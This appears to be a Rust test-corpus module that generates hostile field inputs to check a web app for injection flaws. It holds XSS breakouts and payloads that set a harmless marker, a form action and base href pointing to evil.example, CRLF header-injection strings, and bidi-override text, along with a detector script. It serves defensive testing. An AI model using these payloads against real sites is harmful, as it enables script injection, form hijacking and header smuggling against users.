//! What attackers write into fields: markup, text that turns round what stands beside it, line breaks, and more than fits.
//!
//! One corpus for all tests. Whatever of it runs sets `pwned` in the page ([`TROUBLE`] tells).

/// Ways out of text, of an attribute, of a comment, of a style, of a template.
const BREAKOUTS: [&str; 20] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "<",
    "</p>",
    "</bdi>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "`",
    "{{",
    "{%",
    "&lt;",
    "&#60;",
    "\\u003c",
    "%3C",
    "\u{202e}",
];

const PAYLOADS: [&str; 15] = [
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg/onload=pwned=1>",
    "<iframe src=javascript:parent.pwned=1>",
    "<body onload=pwned=1>",
    "<a href=javascript:pwned=1>x</a>",
    " onmouseover=pwned=1 ",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<form action=//evil.example>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<math><mi xlink:href=x>",
    "7*7}} {# x",
];

/// Signs that turn text round, and letters that do.
pub const BIDI: [&str; 4] =
    ["\u{202e}HHH", "\u{2067}HHH\u{202b}", "\u{200f}HHH\u{2069}\u{202c}", "\u{5d0}\u{5d1}\u{5d2} (1)"];

/// Line breaks and other controls, and the headers that a careless server makes of them.
pub const CONTROLS: [&str; 7] = [
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>pwned=1</script>",
    "a\nBcc: eve@example.com",
    "a\rLocation: //evil.example",
    "%0d%0aSet-Cookie:%20x=1",
    "\u{1b}[2Ja\u{7}\u{8}",
    "a\u{2028}b\u{2029}c\u{85}d",
    "\u{feff}\u{200b}\u{ad}a",
];

/// What stands on a page that should not: a variable that a payload set, elements and handlers that no template of ours has.
pub const TROUBLE: &str = "[typeof pwned === 'undefined' ? '' : 'ran', \
    ...[...document.querySelectorAll('main :is(script,iframe,style,base,math,meta)')].map(e => e.outerHTML.slice(0, 90)), \
    ...[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on')))\
        .map(e => e.outerHTML.slice(0, 90))].filter(found => found)";

/// Three hundred: each payload after each way out, at most 64 characters.
#[must_use]
pub fn markup() -> Vec<String> {
    BREAKOUTS.iter().flat_map(|out| PAYLOADS.iter().map(move |payload| format!("{out}{payload}"))).collect()
}

/// Twenty, with all ways out and all payloads among them.
#[must_use]
pub fn mixed() -> Vec<String> {
    BREAKOUTS.iter().zip(PAYLOADS.iter().cycle()).map(|(out, payload)| format!("{out}{payload}")).collect()
}

/// As much as a name may have, in letters without a place to break: wide ones, the widest there is, and towers of accents.
#[must_use]
pub fn long() -> [String; 3] {
    ["W".repeat(64), "\u{fdfd}".repeat(64), format!("o{}", "\u{30a}".repeat(63))]
}

/// A few of each kind, for where each try takes a page.
#[must_use]
pub fn sharpest() -> Vec<String> {
    let plain = BIDI.iter().chain(&CONTROLS).map(|text| (*text).to_owned());
    mixed().into_iter().step_by(3).chain(plain).chain(long()).chain(["W".repeat(5_000)]).collect()
}
